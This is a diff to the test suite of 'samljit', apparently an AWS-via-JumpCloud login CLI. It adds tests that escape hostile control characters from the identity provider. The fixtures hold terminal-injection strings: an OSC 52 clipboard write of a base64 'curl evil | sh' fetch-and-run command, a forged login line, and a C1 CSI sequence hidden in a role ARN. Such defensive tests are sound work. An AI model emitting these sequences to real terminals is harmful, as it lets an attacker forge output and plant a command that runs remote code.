@@ -26,10 +26,12 @@ from tests.support.accounts import (
     EMAIL,
     FULL_ARN,
     PASSWORD,
+    PROVIDER_ARN,
     RO_ARN,
     SLUG,
     TOTP_SECRET,
     account_config,
+    grants,
     make_user,
 )
 from tests.support.cli import Cli
@@ -736,3 +738,71 @@ def test_a_corrupt_or_foreign_session_file_is_dropped(
     ran = cli.run("login", "-a", "production", "--force", "--skip-prompt", env=NO_PASSWORD)
     assert ran.returncode == 2 and "password" in ran.stderr.lower()
     assert session_files(cli) == []
+
+
+# -- text from the network ------------------------------------------------------------------
+#: What a hostile IdP puts in a message: retitle the terminal, erase the line, write the
+#: clipboard (OSC 52), then forge a line of samljit's own.
+HOSTILE = (
+    "Bad password\x1b]0;pwned\x07\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+    "\r\nLogged in: AcmeJumpCloudAdmin in acme-production"
+)
+
+
+def test_control_characters_from_the_idp_never_reach_the_terminal_or_the_audit_log(
+    cli: Cli, jumpcloud: JumpCloudEmulator
+) -> None:
+    cli.write_config(account_config(jumpcloud))
+    jumpcloud.fail_next("/userconsole/auth", 401, body={"message": HOSTILE})
+    ran = cli.run("login", "-a", "production", "--mfa-token", code(cli))
+    assert ran.returncode == 3, ran.stderr
+    assert "\x1b" not in ran.stderr and "\x07" not in ran.stderr and "\r" not in ran.stderr
+    # the words are still there, escaped, and no line is forged
+    assert "Bad password\\x1b]0;pwned\\x07\\x1b[2K\\x1b]52;c;" in ran.stderr
+    assert "\\r\\nLogged in: AcmeJumpCloudAdmin" in ran.stderr
+    assert not any(line.startswith("Logged in") for line in ran.stderr.splitlines())
+    # the audit log stores the escaped text, and `samljit audit` shows it so
+    logged = (cli.home / ".local" / "state" / "samljit" / "audit.log").read_text()
+    errors = [json.loads(line).get("error", "") for line in logged.splitlines()]
+    assert any("Bad password\\x1b]0;pwned" in error for error in errors), errors
+    assert not any("\x1b" in error or "\n" in error for error in errors)
+    audit = cli.run("audit")
+    assert audit.returncode == 0, audit.stderr
+    assert "Bad password\\x1b]0;pwned" in audit.stdout and "\x1b" not in audit.stdout
+
+
+def test_a_role_arn_with_characters_iam_never_allows_is_refused(
+    cli: Cli, jumpcloud: JumpCloudEmulator
+) -> None:
+    """A C1 CSI (``\\x9b``, an escape sequence in one character, legal in XML) in a role ARN:
+    neither list-roles nor login shows or uses it; exit 4 naming the value, escaped."""
+    hostile = f"arn:aws:iam::{ACCOUNT_ID}:role/Ops\x9b2J\x9b1;1HLogged-in"
+    jumpcloud.add_user(
+        make_user(apps={SLUG: App(roles=grants((RO_ARN, PROVIDER_ARN), (hostile, PROVIDER_ARN)))})
+    )
+    cli.write_config(account_config(jumpcloud))
+    listed = cli.run("list-roles", "-a", "production", "--mfa-token", code(cli))
+    assert listed.returncode == 4, listed.stdout + listed.stderr
+    assert "\x9b" not in listed.stdout + listed.stderr
+    assert f"{PROVIDER_ARN},arn:aws:iam::{ACCOUNT_ID}:role/Ops\\x9b2J\\x9b1;1HLogged-in'" in (
+        listed.stderr
+    )
+    assert "characters IAM does not allow" in listed.stderr
+    login = cli.run("login", "-a", "production", "--mfa-token", code(cli), "--force")
+    assert login.returncode == 4, login.stderr
+    assert not cli.credentials.exists()
+
+
+def test_an_unusable_state_directory_is_said_once(cli: Cli, jumpcloud: JumpCloudEmulator) -> None:
+    """The audit log cannot be written (its directory is a file): one warning, like the
+    cache's, and the login still works."""
+    blocker = cli.home / "state-is-a-file"
+    blocker.write_text("")
+    cli.write_config(account_config(jumpcloud))
+    ran = cli.run(
+        "login", "-a", "production", "--mfa-token", code(cli), env={"XDG_STATE_HOME": str(blocker)}
+    )
+    assert ran.returncode == 0, ran.stderr
+    warning = f"samljit: warning: the audit log {blocker}/samljit/audit.log cannot be written ("
+    assert ran.stderr.count(warning) == 1, ran.stderr
+    assert "working without an audit log" in ran.stderr
